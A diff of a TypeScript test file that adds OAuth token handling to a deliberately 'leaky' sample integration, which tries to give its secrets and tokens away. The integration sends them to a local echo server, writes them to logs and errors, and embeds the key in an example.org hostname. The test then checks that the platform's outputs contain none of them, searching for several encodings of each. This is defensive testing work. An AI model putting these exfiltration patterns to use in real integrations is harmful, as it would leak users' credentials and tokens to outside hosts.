@@ -5,6 +5,7 @@ import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { brotliDecompressSync, gunzipSync } from 'node:zlib';
+import { type OauthServer, startOauthServer } from '@sayso/integrations/testing';
 import { unzipSync } from 'fflate';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { fetchAt } from '../app-origin.ts';
@@ -15,7 +16,7 @@ const SIGNING = 'whsec_c2lnbmluZyBzZWNyZXQgb2YgdGhlIHdlYmhvb2s=';
 const CHANGED = 'the value that replaced the first one 0815';
 
 /** Tries to give its secret away: to the log, in answers, in errors, in fields of the app, and to a server that repeats all that it gets. */
-const hostile = (site: string): string => `
+const hostile = (site: string, provider: string): string => `
 const url = 'http://${site}';
 const send = async (secrets, path = '/' + secrets.key + '?key=' + secrets.key) => fetch(url + path, {
   method: 'POST',
@@ -27,6 +28,7 @@ const endpoint = (run) => ({
 });
 export default {
   name: 'leaky', title: 'Leaky', version: '1.0.0', sentence: 'Leaks its secrets.', hosts: ['${site}'],
+  connections: { account: { title: 'Account', issuer: '${provider}', required: false } },
   secrets: { key: { title: 'Key', in: ['header', 'query', 'path', 'body'] }, signing: { title: 'Signing secret', in: [] } },
   endpoints: {
     echo: endpoint(async (input, { secrets }) => {
@@ -42,6 +44,13 @@ export default {
       const response = await send(secrets, '/redirect?to=/' + secrets.key);
       return { url: response.url, text: await response.text() };
     }),
+    token: endpoint(async (input, { connections }) => {
+      const response = await send({ key: connections.account });
+      const text = await response.text();
+      console.log('handle', connections.account, 'answer', text);
+      if (input.fail) throw new Error(text);
+      return { text, headers: [...response.headers], url: response.url };
+    }),
     refused: endpoint(async (input, { secrets }) => {
       await fetch('https://' + secrets.key + '.example.org/' + secrets.key);
       return {};
@@ -52,6 +61,7 @@ export default {
 
 let dataDir: string;
 let server: Server;
+let provider: OauthServer;
 let builder: Builder;
 /** What the server of the service got: proof that the secrets were sent. */
 const received: string[] = [];
@@ -82,26 +92,30 @@ beforeAll(async () => {
   });
   await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
   const site = `localhost:${(server.address() as AddressInfo).port}`;
+  provider = await startOauthServer();
+  // Every call renews its token.
+  provider.behaviour.expiresIn = 0;
   await mkdir(join(dataDir, 'integrations'));
-  await writeFile(join(dataDir, 'integrations', 'leaky.js'), hostile(site));
+  await writeFile(join(dataDir, 'integrations', 'leaky.js'), hostile(site, provider.site));
   globalThis.fetch = async (...call) => {
     const response = await realFetch(...call);
     answers.push([`${String(call[0])} ${JSON.stringify([...response.headers])}`, new Uint8Array(await response.clone().arrayBuffer())]);
     return response;
   };
-  builder = await openBuilder({ DATA_DIR: dataDir, LOG_LEVEL: 'debug', INTEGRATION_PRIVATE_HOSTS: site });
+  builder = await openBuilder({ DATA_DIR: dataDir, LOG_LEVEL: 'debug', INTEGRATION_PRIVATE_HOSTS: `${site},${provider.host}` });
   await use(builder);
 }, 90_000);
 afterAll(async () => {
   globalThis.fetch = realFetch;
   await builder?.product.stop();
   server?.close();
+  await provider?.close();
   await rm(dataDir, { recursive: true, force: true, maxRetries: 5 });
 });
 
 const LIST = `query ($id: ID!) {
   integrationPackages(appId: $id) {
-    installed { id name secretNames settings problem lastError webhookUrls upgradeAdds package { name secrets settings endpoints webhooks } }
+    installed { id name secretNames settings problem lastError webhookUrls upgradeAdds connections { state lastError clientId problem } package { name secrets settings endpoints webhooks } }
     catalogue { package { name secrets } } events { note error } missing
   }
   integrations(appId: $id) { calls { endpoint message } days { endpoint calls failures } }
@@ -116,8 +130,8 @@ async function use({ graphql, call, createApp, product, headers }: Builder): Pro
     'pages/Home': "import { echo } from '@/integrations/leaky';\nexport default () => <button onClick={() => echo({})}>Go</button>;",
   });
   const { installIntegration } = await graphql(
-    `mutation ($id: ID!, $secrets: JSON) { installIntegration(appId: $id, package: "leaky", secrets: $secrets) { installed { id secretNames } } }`,
-    { id, secrets: { key: KEY, signing: SIGNING } },
+    `mutation ($id: ID!, $secrets: JSON, $clients: JSON) { installIntegration(appId: $id, package: "leaky", secrets: $secrets, clients: $clients) { installed { id secretNames } } }`,
+    { id, secrets: { key: KEY, signing: SIGNING }, clients: { account: provider.client } },
   );
   const [{ id: instance }] = installIntegration.installed;
   const { startPreview } = await graphql('mutation ($id: ID!) { startPreview(appId: $id) { token frameUrl } }', { id });
@@ -130,8 +144,18 @@ async function use({ graphql, call, createApp, product, headers }: Builder): Pro
     });
     return answer.status;
   };
+  const consent = async () => {
+    const { connectIntegration } = await graphql(
+      'mutation ($id: ID!, $instance: ID!) { connectIntegration(appId: $id, id: $instance, connection: "account") }',
+      { id, instance },
+    );
+    // A browser sends the code in an address; the server answers without it.
+    const response = await realFetch(provider.consent(connectIntegration), { headers: { ...headers }, redirect: 'manual' });
+    answers.push([JSON.stringify([...response.headers]), new Uint8Array(await response.arrayBuffer())]);
+  };
+  await consent();
   const everything = async () => {
-    for (const endpoint of ['echo', 'fail', 'redirect', 'refused']) {
+    for (const endpoint of ['token', 'echo', 'fail', 'redirect', 'refused']) {
       await invoke(endpoint);
       await graphql(TEST, { id, instance, endpoint });
     }
@@ -157,10 +181,15 @@ async function use({ graphql, call, createApp, product, headers }: Builder): Pro
   await everything();
   await configure({ key: 'x'.repeat(5000), other: KEY }).catch(() => undefined);
   await configure({ key: KEY });
+  // The provider has ended the access, and repeats the token in its refusal.
+  provider.revokeAll();
+  await everything();
+  await consent();
   for (const path of ['', '/export.zip', '/integrations/schema', '/versions'])
     await fetch(`${product.builderUrl}/api/apps/${id}${path}`, { headers: { ...headers } });
   const { duplicateApp } = await graphql('mutation ($id: ID!) { duplicateApp(id: $id, withRows: true) { id } }', { id });
-  await graphql(LIST, { id: duplicateApp.id });
+  const copy = await graphql(LIST, { id: duplicateApp.id });
+  expect(copy.integrationPackages.installed).toEqual([]);
   await fetch(`${product.builderUrl}/api/apps/${duplicateApp.id}/export.zip`, { headers: { ...headers } });
   await call('/api/docs/json');
   await crawl(startPreview.frameUrl, (url) => fetch(url));
@@ -183,23 +212,27 @@ async function crawl(start: string, load: (url: string) => Promise<Response>): P
   }
 }
 
-const spellings = [KEY, SIGNING, CHANGED].flatMap((value) => {
-  const bytes = Buffer.from(value);
-  return [
-    value,
-    JSON.stringify(value).slice(1, -1),
-    encodeURIComponent(value),
-    encodeURIComponent(value).replaceAll('%20', '+'),
-    [...value].reverse().join(''),
-    bytes.toString('hex'),
-    bytes.toString('base64').replace(/=+$/, '').slice(0, -1),
-    bytes.toString('base64url').slice(0, -1),
-    Buffer.from(`user:${value}`).toString('base64').slice(8, -4),
-  ];
-});
+/** With the tokens, codes and the client of the provider. */
+const spellings = () =>
+  [KEY, SIGNING, CHANGED, provider.client.secret, ...provider.granted].flatMap((value) => {
+    const bytes = Buffer.from(value);
+    return [
+      value,
+      JSON.stringify(value).slice(1, -1),
+      encodeURIComponent(value),
+      encodeURIComponent(value).replaceAll('%20', '+'),
+      [...value].reverse().join(''),
+      bytes.toString('hex'),
+      bytes.toString('base64').replace(/=+$/, '').slice(0, -1),
+      bytes.toString('base64url').slice(0, -1),
+      Buffer.from(`user:${value}`).toString('base64').slice(8, -4),
+    ];
+  });
+let known: readonly string[] | undefined;
 const found = (bytes: Uint8Array | string): string[] => {
   const buffer = Buffer.from(bytes as Uint8Array);
-  return spellings.filter((text) => buffer.includes(text));
+  known ??= spellings();
+  return known.filter((text) => buffer.includes(text));
 };
 
 /** The content of packed bytes. */
@@ -214,6 +247,8 @@ test('the service got the secrets, so that there was something to give away', ()
   expect(received.filter((line) => line.includes(`Bearer ${KEY}`)).length).toBeGreaterThan(5);
   expect(received.some((line) => line.includes(`Bearer ${CHANGED}`))).toBe(true);
   expect(received.some((line) => line.includes(JSON.stringify(KEY)))).toBe(true);
+  const tokens = provider.granted.filter((token) => token.startsWith('access-'));
+  expect(tokens.filter((token) => received.some((line) => line.includes(`Bearer ${token}`))).length).toBeGreaterThan(2);
 });
 
 test('no answer, bundle, export or copy has one', () => {
